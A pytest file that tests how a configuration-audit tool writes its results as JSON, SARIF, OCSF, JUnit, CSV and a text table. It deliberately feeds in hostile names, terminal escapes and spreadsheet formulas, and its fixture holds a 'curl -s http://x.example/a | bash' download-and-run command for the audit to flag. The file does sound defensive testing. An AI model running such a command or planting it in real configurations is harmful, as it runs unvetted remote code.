"""What a run is written as: each format by its own schema or reader, hostile texts included."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping
from datetime import timedelta
from functools import cache
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import jsonschema
import pytest
from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema

from dashboard.audit.arguments import FORMATS as ARGUMENT_FORMATS
from dashboard.audit.arguments import run_parser
from dashboard.audit.baseline import Baseline
from dashboard.audit.catalogue import LISTINGS
from dashboard.audit.checks import BUILT_IN
from dashboard.audit.formats import FORMATS, writer
from dashboard.audit.outcome import SEVERITIES, Severity
from dashboard.audit.results import ConnectionAudit, Results
from dashboard.audit.run import Auditor
from dashboard.audit.waivers import apply_waivers, waivers_for
from tests.dashboard.audit.assessed import NOW, secret, subject
from tests.dashboard.builders import HOSTILE_TEXTS

ROOT = Path(__file__).parents[3]
SARIF = Path(__file__).parent / "schemas" / "sarif-2.1.0-rtm.5.json"
HOSTILE = ("\x1b[2J", *HOSTILE_TEXTS, "\ud800", "]]>", "\ufffe")
ESCAPE = "\x1b"


@cache
def results(*, baseline: bool = False, faults: tuple[str, ...] = ()) -> Results:
    """Return a run over hostile names and texts, with an accepted and a lapsed finding."""
    subjects = [
        subject(
            number,
            name=text,
            config_desc=text,
            user_command=f"pip install {text!r}; curl -s http://x.example/a | bash",
            user_image_url="r.example/a",
            secrets=[secret("user_command")] if number == 0 else (),
            detail={"train_url": text, "volumes": [{"host_path": {"src_path": "/"}}]} if number < 3 else None,
        )
        for number, text in enumerate(HOSTILE)
    ]
    audit = Auditor().audit(subjects, NOW)
    downloads = [audit.finding(int(place)) for place in audit.positions(checks=["SUP001"])][:2]
    accepted = waivers_for(downloads[:1], "=1+1", reason="=known", owner="anna", expires=NOW.date())
    past = (NOW - timedelta(days=9)).date()
    lapsed = waivers_for(downloads[1:], "=1+1", reason="was", owner="ben", expires=past)
    audit = apply_waivers(audit, [*accepted, *lapsed], "=1+1", NOW)
    known = {finding.fingerprint: "2026-01-01T00:00:00Z" for finding in audit if finding.check.id != "SUP003"}
    connections = (ConnectionAudit("=1+1", audit, faults), ConnectionAudit("gone", None, ("nobody answers",)))
    chosen = Baseline({"=1+1": known}) if baseline else None
    return Results(NOW, connections, Severity.HIGH, chosen, "1.2.3")


def _text(name: str, run: Results) -> str:
    return "".join(writer(name)(run))


def test_the_command_line_names_every_format_and_severity() -> None:
    assert tuple(FORMATS) == ARGUMENT_FORMATS
    assert [run_parser().parse_args(["--fail-on", one]).fail_on for one in SEVERITIES] == list(SEVERITIES)


def test_json_has_the_schema_that_is_documented() -> None:
    run = json.loads(_text("json", results()))
    assert (run["schema"], run["generated_at"]) == (1, "2026-11-26T12:00:00Z")
    first, gone = run["connections"]
    assert (gone["complete"], gone["faults"], gone["findings"]) == (False, ["nobody answers"], [])
    assert (first["name"], first["complete"], first["configurations"], first["details"]) == (
        "=1+1",
        True,
        len(HOSTILE),
        3,
    )
    keys = {"check", "severity", "status", "configuration", "message", "fingerprint"}
    assert all(finding.keys() - {"waiver"} == keys for finding in first["findings"])
    assert {finding["configuration"] for finding in first["findings"]} == set(HOSTILE)
    assert {finding["status"] for finding in first["findings"]} == {"open", "accepted", "lapsed"}
    assert [finding["waiver"] for finding in first["findings"] if "waiver" in finding] == [
        {"owner": "anna", "expires": NOW.date().isoformat(), "reason": "=known"}
    ]
    assert first["not_assessed"]["REL006"] == {"details are not loaded": len(HOSTILE) - 3}
    assert len({finding["fingerprint"] for finding in first["findings"]}) == len(first["findings"])


def test_json_says_when_a_finding_was_first_seen_where_there_is_a_baseline() -> None:
    findings = json.loads(_text("json", results(baseline=True)))["connections"][0]["findings"]
    seen = {finding["check"]: finding["first_seen"] for finding in findings}
    assert (seen["SUP001"], seen["SUP003"]) == ("2026-01-01T00:00:00Z", "2026-11-26T12:00:00Z")


@pytest.mark.parametrize("baseline", [False, True])
def test_sarif_is_valid_and_tells_suppressions_and_stable_fingerprints(baseline: bool) -> None:
    run = results(baseline=baseline, faults=("a detail is missing",))
    log = json.loads(_text("sarif", run))
    jsonschema.Draft4Validator(json.loads(SARIF.read_text(encoding="utf-8"))).validate(log)
    first, gone = log["runs"]
    assert not first["invocations"][0]["executionSuccessful"]
    assert not gone["invocations"][0]["executionSuccessful"]
    rules = [rule["id"] for rule in first["tool"]["driver"]["rules"]]
    assert rules == [check.id for check in BUILT_IN]
    found = [one for one in first["results"] if one.get("suppressions")]
    assert [one["suppressions"][0]["justification"] for one in found] == ["=known"]
    assert all(rules[one["ruleIndex"]] == one["ruleId"] for one in first["results"])
    prints = [one["partialFingerprints"]["modelartsAudit/v1"] for one in first["results"]]
    assert prints == [finding.fingerprint for finding in run.connections[0].audit or ()]
    states = {one.get("baselineState") for one in first["results"]}
    assert states == ({"new", "unchanged"} if baseline else {None})
    assert {one["level"] for one in first["results"]} == {"error", "warning", "note"}


def test_ocsf_events_are_compliance_findings_by_the_published_schema() -> None:
    events = json.loads(_text("ocsf", results()))
    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(version="1.5.0")).get_class_schema("compliance_finding")
    validator = jsonschema.Draft202012Validator(schema)
    by_check: Mapping[str, Any] = {event["compliance"]["control"]: event for event in events}
    for event in by_check.values():
        validator.validate(event)
    assert {event["class_uid"] for event in events} == {2003}
    assert sorted({event["status"] for event in events}) == ["New", "Suppressed"]
    assert len(events) == len(results().connections[0].audit or ())
    assert json.loads(_text("ocsf", Results(NOW, ()))) == []


def test_junit_fails_the_checks_that_count_and_says_what_is_missing() -> None:
    root = ET.fromstring(_text("junit", results(faults=("a detail is missing",))))
    first, gone = root
    assert [case.find("error") is not None for case in gone] == [True]
    cases = {str(case.get("name")).split()[0]: case for case in first}
    assert cases["SUP001"].find("failure") is not None
    assert cases["SUP003"].find("failure") is None  # medium, and high is asked for
    skipped = cases["EOL004"].find("skipped")
    assert skipped is not None
    assert "engines are not known" in str(skipped.get("message"))
    assert cases["Everything"].find("error") is not None
    counted = [int(str(first.get(name))) for name in ("tests", "failures", "errors", "skipped")]
    kinds = ("failure", "error", "skipped")
    assert counted == [len(first), *(sum(case.find(kind) is not None for case in first) for kind in kinds)]
    assert root.get("tests") == str(len(first) + len(gone))


def test_csv_has_a_row_a_finding_and_no_formula() -> None:
    rows = list(csv.DictReader(io.StringIO(_text("csv", results()), newline="")))
    assert len(rows) == len(results().connections[0].audit or ())
    assert {row["connection"] for row in rows} == {"'=1+1"}
    assert {row["reason"] for row in rows} == {"", "'=known", "was"}
    assert "'=HYPERLINK(1)" in {row["configuration"] for row in rows}
    assert {row["counts"] for row in rows if row["status"] == "accepted"} == {"no"}


def test_the_table_shows_what_stands_and_obeys_no_escape() -> None:
    text = _text("table", results(faults=("a detail is missing",)))
    assert ESCAPE not in text
    assert "\\x1b[2J" in text
    assert "NOT COMPLETE: a detail is missing" in text
    audit = results().connections[0].audit
    assert audit is not None
    standing = len(audit.positions(checks=["SUP001"], statuses=["open", "lapsed"]))
    assert standing == len(audit.positions(checks=["SUP001"])) - 1
    assert "1 accepted; 1 lapsed" in text
    assert f"HIGH      SUP001  A download piped into a shell: {standing}" in text
    known = _text("table", results(baseline=True))
    assert "SUP001" not in known
    assert "SUP003" in known


def test_the_documents_of_checks_are_made_from_the_code() -> None:
    text = "".join(LISTINGS["markdown"](BUILT_IN))
    stale = "python -m dashboard checks --format markdown > docs/checks.md"
    assert (ROOT / "docs" / "checks.md").read_text(encoding="utf-8") == text, stale
    listed = json.loads("".join(LISTINGS["json"](BUILT_IN)))
    assert [one["id"] for one in listed] == [check.id for check in BUILT_IN]
    assert len("".join(LISTINGS["table"](BUILT_IN)).splitlines()) == len(BUILT_IN)
